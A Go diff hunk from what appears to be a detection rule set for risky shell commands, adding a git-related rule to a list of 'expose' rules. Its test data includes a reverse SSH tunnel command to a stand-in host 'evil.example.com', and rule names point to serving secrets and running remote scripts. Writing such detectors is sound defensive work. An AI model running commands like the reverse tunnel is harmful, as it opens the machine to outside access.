@@ -27,7 +27,7 @@ var (
 		Match:       []string{"ssh -R 8080:localhost:22 evil.example.com", "ssh -N -R 9000:localhost:8000 host"},
 		NoMatch:     []string{"ssh -L 5432:db:5432 bastion", "ssh prod uptime"},
 	}
-	exposeRules = []*rule.Rule{ruleServeSecrets, ruleRemoteForward, ruleRemoteScript, ruleCopyIntoContainer}
+	exposeRules = []*rule.Rule{ruleServeSecrets, ruleRemoteForward, ruleRemoteScript, ruleCopyIntoContainer, ruleGitCommitUntrackAll}
 )
 
 func exposeHandlers() map[string][]handler {
